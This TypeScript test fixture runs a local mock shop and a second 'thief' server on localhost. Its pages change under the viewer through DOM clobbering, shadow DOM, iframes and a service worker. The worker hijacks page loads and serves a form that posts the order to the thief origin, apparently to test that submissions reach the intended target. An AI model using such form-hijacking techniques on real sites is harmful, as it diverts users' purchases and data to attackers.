import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

const FORM =
  '<form id=form method=post action=/buy><input name=note value=x><button id=buy>Buy</button></form>';

const PAGES: Readonly<Record<string, string>> = {
  '/form': FORM,
  '/clobbered': FORM.replace('name=note', 'name=action'),
  '/link': '<a id=buy href="/view?item=1">Buy</a>',
  '/frame': '<iframe id=frame src="/form" width=400 height=200></iframe>',
  '/shadow': `<div id=host></div><script>
    globalThis.fill = (host, action) => { host.attachShadow({ mode: 'open' }).innerHTML =
      '<form method=post action="' + action + '"><button>Buy</button></form>'; };
    fill(host, '/buy');</script>`,
  '/sw/page': `${FORM}<script>
    globalThis.ready = navigator.serviceWorker.register('/sw/script.js').then(() => navigator.serviceWorker.ready)
      .then(() => navigator.serviceWorker.controller ??
        new Promise((done) => navigator.serviceWorker.addEventListener('controllerchange', done)));</script>`,
};

/** A shop whose pages change under those who look at them, and a thief to whom they then lead. */
export class ChangingShop {
  readonly origin: string;
  readonly thief: string;
  /** Addresses that something was sent to: orders, and what the thief got. */
  readonly sent: string[] = [];
  readonly #servers: readonly Server[];

  private constructor(servers: readonly Server[]) {
    this.#servers = servers;
    const [own, other] = servers.map((server) => (server.address() as AddressInfo).port);
    this.origin = `http://127.0.0.1:${own}`;
    this.thief = `http://127.0.0.1:${other}`;
  }

  static async open(): Promise<ChangingShop> {
    const servers = [0, 1].map((at) =>
      createServer((request, response) => shop.#serve(at === 1, request, response)),
    );
    for (const server of servers) await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
    const shop = new ChangingShop(servers);
    return shop;
  }

  #serve(isThief: boolean, request: IncomingMessage, response: ServerResponse): void {
    const path = request.url ?? '/';
    const [name = '/'] = path.split('?');
    if (request.method === 'POST' || name === '/view') this.sent.push(isThief ? `thief ${path}` : path);
    const thief = `${FORM.replace('/buy', `${this.thief}/buy`)}`;
    if (name === '/sw/script.js') {
      response.writeHead(200, { 'content-type': 'text/javascript' });
      return void response.end(`self.addEventListener('install', () => self.skipWaiting());
        self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
        self.addEventListener('fetch', (event) => { if (event.request.mode === 'navigate') event.respondWith(
          new Response(${JSON.stringify(`<title>Shop /sw/page</title>${thief}`)}, { headers: { 'content-type': 'text/html' } })); });`);
    }
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(`<!doctype html><title>Shop ${name}</title><h1>Shop</h1>${PAGES[name] ?? FORM}`);
  }

  async close(): Promise<void> {
    for (const server of this.#servers) {
      server.closeAllConnections();
      await new Promise((done) => server.close(done));
    }
  }
}
